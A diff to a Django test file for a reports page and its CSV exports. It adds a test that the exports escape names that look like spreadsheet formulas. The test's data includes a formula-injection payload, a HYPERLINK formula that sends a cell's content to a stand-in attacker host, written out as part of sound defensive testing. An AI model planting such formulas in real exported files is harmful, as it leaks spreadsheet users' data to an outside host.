@@ -5,41 +5,35 @@ import pytest
 from django.test import Client
 
 from audit.models import AuditEvent
-from inbox.models import Message
-from service.deadlines import chat_deadlines_refresh
-from tests.service.conftest import moscow
+
+PERIOD = {"from": "2026-11-01", "to": "2026-11-07"}
 
 
-def test_reports_page_renders_charts_tables_and_csv(make_account, make_chat, add_message, agent):
-    account = make_account("ozon", name="Озон Главный", members=[agent])
-    chat = make_chat(account)
-    add_message(chat, Message.Author.BUYER, moscow(2026, 11, 5, 12, 0))
-    add_message(
-        chat,
-        Message.Author.SELLER,
-        moscow(2026, 11, 5, 12, 5),
-        sent_by=agent,
-        delivery_status="sent",
-        sent_at=moscow(2026, 11, 5, 12, 6),
-        external_id=None,
-    )
-    chat_deadlines_refresh(chat_ids=[chat.pk])
+def _agent_client(agent) -> Client:
     client = Client(HTTP_ACCEPT_LANGUAGE="ru")
     client.force_login(agent)
-    params = {"from": "2026-11-01", "to": "2026-11-07"}
-    page = client.get("/reports/", params)
+    return client
+
+
+def _csv_rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+def test_reports_page_renders_charts_tables_and_csv(answered_turn, agent):
+    account, chat = answered_turn(name="Озон Главный")
+    client = _agent_client(agent)
+    page = client.get("/reports/", PERIOD)
     assert page.status_code == 200
     html = page.content.decode()
     assert 'id="report-data"' in html and "chart-4.6.1.umd.min.js" in html
     assert "<script>" not in html.replace('<script id="report-data" type="application/json">', "")
     assert "По сотрудникам" in html and "Озон Главный" in html and "6 мин" in html
 
-    table = client.get("/reports/", {**params, "export": "accounts"})
-    rows = list(csv.reader(io.StringIO(table.content.decode())))
+    rows = _csv_rows(client.get("/reports/", {**PERIOD, "export": "accounts"}))
     assert rows[1][:5] == [str(account.pk), "Озон Главный", "1", "1", "0"]
     assert rows[1][9] == "360"
 
-    turns = client.get("/reports/", {**params, "export": "turns"})
+    turns = client.get("/reports/", {**PERIOD, "export": "turns"})
     rows = list(csv.reader(io.StringIO(b"".join(turns.streaming_content).decode())))
     assert rows[0][:4] == ["chat", "account", "marketplace", "turn"]
     assert rows[1][:4] == [str(chat.pk), str(account.pk), "ozon", "0"]
@@ -55,11 +49,24 @@ def test_reports_page_renders_charts_tables_and_csv(make_account, make_chat, add
 @pytest.mark.parametrize("export", ["", "accounts", "agents", "turns"])
 def test_an_id_beyond_the_database_range_answers_400_not_500(make_account, agent, name, export):
     make_account("ozon", members=[agent])
-    client = Client(HTTP_ACCEPT_LANGUAGE="ru")
-    client.force_login(agent)
-    params = {"from": "2026-11-01", "to": "2026-11-07", name: "9223372036854775808", "export": export}
+    client = _agent_client(agent)
+    params = {**PERIOD, name: "9223372036854775808", "export": export}
     response = client.get("/reports/", params)
     assert response.status_code == 400
     assert response["Content-Type"].startswith("text/html")
     assert "Убедитесь, что это значение меньше либо равно 9223372036854775807." in response.content.decode()
     assert not AuditEvent.objects.filter(action="exported").exists()
+
+
+def test_csv_exports_write_names_that_look_like_formulas_as_text(answered_turn, agent):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'
+    account, _chat = answered_turn(name=hostile)
+    agent.first_name = "@SUM(1+1)"
+    agent.save(update_fields=["first_name"])
+    client = _agent_client(agent)
+
+    accounts = _csv_rows(client.get("/reports/", {**PERIOD, "export": "accounts"}))
+    assert accounts[1][:5] == [str(account.pk), "'" + hostile, "1", "1", "0"]
+    agents = _csv_rows(client.get("/reports/", {**PERIOD, "export": "agents"}))
+    assert agents[1][:5] == [str(agent.pk), "'@SUM(1+1)", "1", "1", "0"]
+    assert agents[1][9] == "360"
